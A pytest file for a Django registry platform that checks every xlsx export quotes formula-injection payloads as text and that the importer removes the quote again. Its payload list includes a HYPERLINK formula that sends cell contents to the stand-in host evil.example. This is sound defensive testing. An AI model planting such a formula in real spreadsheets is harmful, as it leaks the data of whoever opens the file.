"""Formula injection (OWASP "CSV injection") through every .xlsx the platform writes: a name typed as a formula
comes out of every export as text (with a quote in front), never as a live formula; the importer takes the
quote off again. Each workbook is read back with python-calamine and its sheet XML searched for <f>."""

from __future__ import annotations

import datetime
import io
import re
import zipfile
from typing import Any

import pytest
from django.test import Client
from python_calamine import CalamineWorkbook

from zhenxing.accounts.enums import Role
from zhenxing.common.xlsx import Workbook, neutralised, single_sheet, unquoted
from zhenxing.monitoring.models import Case
from zhenxing.registry.layout import MEMBER_COLUMNS, MEMBER_SHEET
from zhenxing.registry.models import Household
from zhenxing.transfer import services as transfer

from .conftest import COUNTY, VILLAGE
from .factories import make_household, make_user
from .transfer.workbook_builder import member_rows

pytestmark = pytest.mark.django_db

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
)


def _cells(content: bytes) -> dict[str, list[list[Any]]]:
    """Every sheet as calamine reads it; fails if any sheet holds a formula."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                assert not re.search(r"<f[ >]", xml), f"formula in {name}"
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}


def _texts(content: bytes) -> list[str]:
    return [
        value for rows in _cells(content).values() for row in rows for value in row if isinstance(value, str)
    ]


def _assert_every_payload_is_text(content: bytes, *, inside: bool = False) -> None:
    """Each payload is a cell of its own (quoted), or with `inside` part of a longer text."""
    texts = _texts(content)
    for payload in PAYLOADS:
        if inside:
            assert any(payload.strip() in text for text in texts), f"{payload!r} not found as text"
        else:
            assert neutralised(payload) in texts, f"{payload!r} not found as text"
    # nothing a spreadsheet would run is left unquoted
    assert not [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_the_helper_quotes_formula_leads_and_keeps_types() -> None:
    # given
    day = datetime.date(2025, 3, 8)
    content = single_sheet("表", ["文本", "数", "日期"], [(payload, -2, day) for payload in PAYLOADS])
    # when
    rows = _cells(content)["表"]
    # then
    assert [row[0] for row in rows[1:]] == ["'" + payload for payload in PAYLOADS]
    assert rows[1][1] == -2  # numbers stay numbers, negative ones included
    assert rows[1][2] in (day, datetime.datetime.combine(day, datetime.time()))
    assert [unquoted(row[0]) for row in rows[1:]] == list(PAYLOADS)
    assert unquoted("'引号开头") == "'引号开头"  # a quote the exporter did not add stays


@pytest.fixture
def planted() -> list[Household]:
    """A household per payload, its head named by the payload, each a confirmed monitoring object whose
    summary and risk type are the payload too."""
    households = []
    for index, payload in enumerate(PAYLOADS):
        household = make_household(VILLAGE, code=f"INJ-{index}", head_name=payload)
        assert isinstance(household, Household)
        Case.objects.create(
            household=household, village_id=VILLAGE, source="cadre", status="confirmed", summary=payload,
            opened_at=datetime.datetime(2025, 9, 1, tzinfo=datetime.UTC), step_started_on=datetime.date(2025, 9, 1),
            due=datetime.date(2025, 9, 29), identified_on=datetime.date(2025, 9, 20), monitoring_type="脱贫不稳定户",
            risk_types=[payload],
        )  # fmt: skip
        households.append(household)
    return households


def test_registry_export_writes_names_as_text(client: Client, planted: list[Household]) -> None:
    client.force_login(make_user(Role.VILLAGE, VILLAGE))
    response = client.get("/households/export.xlsx", {"village": VILLAGE})
    assert response.status_code == 200
    _assert_every_payload_is_text(response.content)
    names = [
        row[MEMBER_COLUMNS.index(next(c for c in MEMBER_COLUMNS if c.field == "name"))]
        for row in _cells(response.content)[MEMBER_SHEET][1:]
    ]
    assert {unquoted(name) for name in names} >= set(PAYLOADS)


def test_roster_and_report_write_names_and_risks_as_text(client: Client, planted: list[Household]) -> None:
    client.force_login(make_user(Role.COUNTY, COUNTY))
    for url in ("/cases/roster.xlsx", "/cases/report.xlsx"):
        response = client.get(url)
        assert response.status_code == 200, url
        _assert_every_payload_is_text(response.content)


def test_trace_export_writes_places_and_summaries_as_text(client: Client, planted: list[Household]) -> None:
    from zhenxing.monitoring.models import Visit

    user = make_user(Role.COUNTY, COUNTY)
    client.force_login(user)
    for household, payload in zip(planted, PAYLOADS, strict=True):
        case = household.cases.get()  # type: ignore[attr-defined]
        Visit.objects.create(
            case=case, household=household, visited_by=user, place=payload, findings="核实属实",
            visited_at=datetime.datetime(2025, 9, 2, tzinfo=datetime.UTC),
        )  # fmt: skip
        response = client.get(f"/cases/trace/{household.pk}.xlsx")
        assert response.status_code == 200
        texts = _texts(response.content)
        assert any(text.startswith(neutralised(payload) + "：") for text in texts)  # the visit's place
        assert any(text.endswith(payload) for text in texts)  # the case's summary
        assert not [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_feed_quarantine_download_writes_reasons_as_text(client: Client) -> None:
    from zhenxing.feeds.models import FeedBatch, QuarantinedRow

    batch = FeedBatch.objects.create(department="medical_insurance", checksum="1" * 64, source="api")
    for number, payload in enumerate(PAYLOADS, start=1):
        QuarantinedRow.objects.create(batch=batch, row_number=number, field=payload[:40], reason=payload)
    client.force_login(make_user(Role.DEPARTMENT, department="medical_insurance"))
    response = client.get(f"/feeds/{batch.pk}/quarantine.xlsx")
    assert response.status_code == 200
    _assert_every_payload_is_text(response.content)


def _workbook_with_names(rows: list[dict[str, Any]]) -> bytes:
    """The import layout written the way our exports write it (common/xlsx)."""
    book = Workbook()
    sheet = book.add_sheet(MEMBER_SHEET)
    sheet.row(0, 0, [column.header for column in MEMBER_COLUMNS])
    for index, row in enumerate(rows, start=1):
        sheet.row(index, 0, [row.get(column.header, "") for column in MEMBER_COLUMNS])
    return book.finish()


def test_import_error_report_writes_values_as_text_and_the_importer_takes_the_quote_off(
    client: Client,
) -> None:
    user = make_user(Role.VILLAGE, VILLAGE)
    client.force_login(user)
    # given: a file whose names are the payloads (valid), and one whose 户类型 cells are (invalid)
    rows = member_rows(VILLAGE, len(PAYLOADS), code_prefix="QUO")
    heads = [row for row in rows if row["与户主关系"] == "户主"]
    for row, payload in zip(heads, PAYLOADS, strict=True):
        row["姓名"] = payload
    # when: the valid one is staged
    batch = transfer.import_stage(actor=user, file_name="quoted.xlsx", data=_workbook_with_names(rows))
    # then: the names arrive without the quote the file carried
    assert batch.status == "validated", batch.errors
    staged = {row["name"] for sheet, row in transfer.staged_payloads(batch) if sheet == "member"}
    assert staged >= set(PAYLOADS) - {"\t=1+1"}
    assert "=1+1" in staged  # a tab (or any blank) around a cell's text is trimmed on import, as before
    # when: the invalid one is staged and its error report downloaded
    for row, payload in zip(heads, PAYLOADS, strict=True):
        row["户类型"] = payload
    bad = transfer.import_stage(actor=user, file_name="bad.xlsx", data=_workbook_with_names(rows))
    response = client.get(f"/imports/{bad.pk}/errors.xlsx")
    # then
    assert response.status_code == 200
    _assert_every_payload_is_text(response.content, inside=True)
    # and the blank template (no user data) has no formula either, and documents the quote
    template = client.get("/imports/template.xlsx")
    assert any("单引号" in text for text in _texts(template.content))
